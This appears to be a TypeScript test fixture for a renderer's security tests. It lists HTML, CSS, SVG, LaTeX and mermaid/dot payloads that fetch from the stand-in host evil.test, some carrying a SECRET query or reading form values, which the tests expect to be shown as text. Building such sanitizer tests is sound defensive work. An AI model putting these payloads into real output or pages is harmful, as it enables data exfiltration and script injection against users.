import { rowsOf, shownAsWritten, type AttackRow } from '../row.js'

/** Elements of HTML that fetch, and how they are written. */
const fetching: readonly (readonly [what: string, unsafe: string])[] = [
  ['an image’s source', '<img src="https://evil.test/?q=SECRET">'],
  ['an image’s source set', '<img srcset="https://evil.test/a 1x, https://evil.test/b 2x">'],
  ['an image’s low source', '<img lowsrc="https://evil.test/a">'],
  ['an image’s dynamic source', '<img dynsrc="https://evil.test/a">'],
  ['an image’s long description', '<img longdesc="https://evil.test/a">'],
  ['an image’s map', '<img usemap="https://evil.test/#a">'],
  ['a lazy image', '<img loading=lazy src=//evil.test/a>'],
  ['an old name of an image', '<image src="https://evil.test/a">'],
  ['a picture’s source', '<picture><source srcset="https://evil.test/a"><img></picture>'],
  ['a video', '<video src="https://evil.test/a" autoplay></video>'],
  ['a video’s poster', '<video poster="https://evil.test/a"></video>'],
  ['a video’s source', '<video><source src="https://evil.test/a"></video>'],
  ['a video’s track', '<video><track default src="https://evil.test/a"></video>'],
  ['a sound', '<audio src="https://evil.test/a" autoplay></audio>'],
  ['an old sound', '<bgsound src="https://evil.test/a">'],
  ['a frame', '<iframe src="https://evil.test/a"></iframe>'],
  ['a frame of a frameset', '<frameset><frame src="https://evil.test/a"></frameset>'],
  ['a portal', '<portal src="https://evil.test/a"></portal>'],
  ['a fenced frame', '<fencedframe src="https://evil.test/a"></fencedframe>'],
  ['an object', '<object data="https://evil.test/a"></object>'],
  ['an object’s code base', '<object codebase="https://evil.test/" classid="a"></object>'],
  ['an embedded thing', '<embed src="https://evil.test/a">'],
  ['an applet', '<applet code="a" codebase="https://evil.test/"></applet>'],
  ['an image button', '<input type="image" src="https://evil.test/a">'],
  ['a table’s background', '<table background="https://evil.test/a"><tr><td>a</table>'],
  ['a cell’s background', '<td background="https://evil.test/a">a</td>'],
  ['the body’s background', '<body background="https://evil.test/a">'],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.test/a">'],
  ['a preload', '<link rel="preload" as="image" href="https://evil.test/a">'],
  ['a module preload', '<link rel="modulepreload" href="https://evil.test/a">'],
  ['a prefetch', '<link rel="prefetch" href="https://evil.test/a">'],
  ['a prerender', '<link rel="prerender" href="https://evil.test/a">'],
  ['a name to look up', '<link rel="dns-prefetch" href="//secret.evil.test">'],
  ['a host to connect to', '<link rel="preconnect" href="https://secret.evil.test">'],
  ['an icon', '<link rel="icon" href="https://evil.test/a">'],
  ['a manifest', '<link rel="manifest" href="https://evil.test/a">'],
  [
    'an image set in a preload',
    '<link rel="preload" as="image" imagesrcset="https://evil.test/a 1x">',
  ],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test/">'],
  [
    'a policy that reports',
    '<meta http-equiv="Content-Security-Policy" content="img-src x; report-uri https://evil.test/">',
  ],
  ['a referrer policy', '<meta name="referrer" content="unsafe-url">'],
  ['a base', '<base href="https://evil.test/">'],
  ['a style with an address', '<p style="background:url(https://evil.test/a)">a</p>'],
  ['a style sheet of its own', '<style>@import "https://evil.test/a";</style>'],
  ['a font', '<style>@font-face{font-family:a;src:url(https://evil.test/a)}</style>'],
  [
    'an image set in a style',
    '<i style="background-image:image-set(\'https://evil.test/a\' 1x)">a</i>',
  ],
  ['a cursor', '<b style="cursor:url(https://evil.test/a),auto">a</b>'],
  ['a list’s image', '<ul style="list-style:url(https://evil.test/a)"><li>a</ul>'],
  ['a selector that reads a form', '<style>input[value^=a]{background:url(//evil.test/a)}</style>'],
  ['an SVG image', '<svg><image href="https://evil.test/a"/></svg>'],
  ['an SVG image by XLink', '<svg><image xlink:href="https://evil.test/a"/></svg>'],
  ['an SVG that uses another', '<svg><use href="https://evil.test/a#b"/></svg>'],
  ['an SVG filter’s image', '<svg><filter><feImage href="https://evil.test/a"/></filter></svg>'],
  ['an SVG script', '<svg><script href="https://evil.test/a"/></svg>'],
  ['an SVG fill', '<svg><rect fill="url(https://evil.test/a#b)"/></svg>'],
  ['a ping', '<a href="#a" ping="https://evil.test/a">a</a>'],
  ['a link’s attribution source', '<a attributionsrc="https://evil.test/a" href="#a">a</a>'],
  ['a form', '<form action="https://evil.test/"><input name=q><button>Send</button></form>'],
  ['a button’s form', '<button formaction="https://evil.test/">a</button>'],
  ['a citation’s address', '<blockquote cite="https://evil.test/a">a</blockquote>'],
  [
    'rules for speculation',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.test/"]}]}</script>',
  ],
  ['a map of imports', '<script type="importmap">{"imports":{"a":"https://evil.test/"}}</script>'],
  ['a script’s source', '<script src="https://evil.test/a"></script>'],
  ['an area', '<map name=m><area href="https://evil.test/" shape=default></map>'],
  ['a profile of the head', '<head profile="https://evil.test/a">'],
  ['a manifest of the page', '<html manifest="https://evil.test/a">'],
  ['a menu item’s icon', '<menuitem icon="https://evil.test/a">'],
  ['a layer', '<layer src="https://evil.test/a"></layer>'],
  ['an XML island', '<xml src="https://evil.test/a"></xml>'],
]

const spelled: readonly (readonly [name: string, unsafe: string])[] = [
  ['an image in capitals is shown as written', '<IMG SRC="https://evil.test/a">'],
  ['an image without quotes is shown as written', '<img src=https://evil.test/a>'],
  ['an image with a slash for a blank is shown as written', '<img/src="https://evil.test/a"/>'],
  ['an image over two lines is shown as written', 'a <img\nsrc="https://evil.test/a"> b'],
  ['an image within a word is shown as written', 'a<img src="https://evil.test/a">b'],
  ['an image that never closes is shown as written', '<img src="https://evil.test/a"'],
  ['an image in a quote is shown as written', 'a "<img src=\'https://evil.test/a\'>" b'],
  [
    'an image in a cell of HTML is shown as written',
    '<table><tr><td><img src="https://evil.test/a"></td></tr></table>',
  ],
  ['an image behind a broken comment is shown as written', '<!-><img src="https://evil.test/a">'],
  ['an image in CDATA is shown as written', 'a <![CDATA[<img src="https://evil.test/a">]]>'],
  ['an image in an instruction is shown as written', '<?php <img src="https://evil.test/a"> ?>'],
  [
    'an image in a declaration is shown as written',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "https://evil.test/">]>',
  ],
  ['two attributes of one name are shown as written', '<img src="a" src="https://evil.test/a">'],
  [
    'an image in a template is shown as written',
    '<template><img src="https://evil.test/a"></template>',
  ],
  [
    'an image in a hidden script is shown as written',
    '<noscript><img src="https://evil.test/a"></noscript>',
  ],
]

const formulas: readonly (readonly [name: string, unsafe: string])[] = [
  ['a formula that includes a picture is its source', '$\\includegraphics{https://evil.test/a}$'],
  ['a formula with HTML data is its source', '$\\htmlData{a=b}{c}$'],
  ['a formula with a style is its source', '$\\htmlStyle{background:url(//evil.test/a)}{c}$'],
  ['a formula that defines itself forever is its source', '$\\def\\a{\\a\\a}\\a$'],
]

const diagrams = [
  {
    name: 'a diagram with a picture is its source',
    unsafe: '```mermaid\ngraph TD\nA["<img src=\'https://evil.test/?q=SECRET\'>"]\n```',
    safe: 'graph TD A["<img src=\'https://evil.test/?q=SECRET\'>"]',
  },
  {
    name: 'a diagram that loosens its own rules is its source (CVE-2025-54132)',
    unsafe: '```mermaid\n%%{init:{"securityLevel":"loose"}}%%\ngraph TD\nclick A call alert()\n```',
    safe: '%%{init:{"securityLevel":"loose"}}%% graph TD click A call alert()',
  },
  {
    name: 'a picture of SVG is its source',
    unsafe: '```svg\n<svg onload=alert(1)><image href="//evil.test/a"/></svg>\n```',
    safe: '<svg onload=alert(1)><image href="//evil.test/a"/></svg>',
  },
  {
    name: 'a page of HTML is its source',
    unsafe: '```html\n<script src="//evil.test/a"></script>\n```',
    safe: '<script src="//evil.test/a"></script>',
  },
  {
    name: 'a diagram of nodes that fetch is its source',
    unsafe: '```dot\ndigraph { a [image="https://evil.test/a"] }\n```',
    safe: 'digraph { a [image="https://evil.test/a"] }',
  },
]

/** HTML, formulas and diagrams that would fetch something if anything drew them. */
export const fetchingHtml: readonly AttackRow[] = rowsOf('fetching-html', [
  ...shownAsWritten(
    fetching.map(([what, unsafe]) => ({ name: `${what} is shown as written`, unsafe })),
  ),
  ...shownAsWritten(
    fetching.slice(0, 24).map(([what, unsafe]) => ({
      name: `${what} inside a sentence is shown`,
      unsafe: `a ${unsafe} b`,
    })),
  ),
  ...shownAsWritten(spelled.map(([name, unsafe]) => ({ name, unsafe }))),
  ...shownAsWritten(formulas.map(([name, unsafe]) => ({ name, unsafe }))),
  ...diagrams,
])
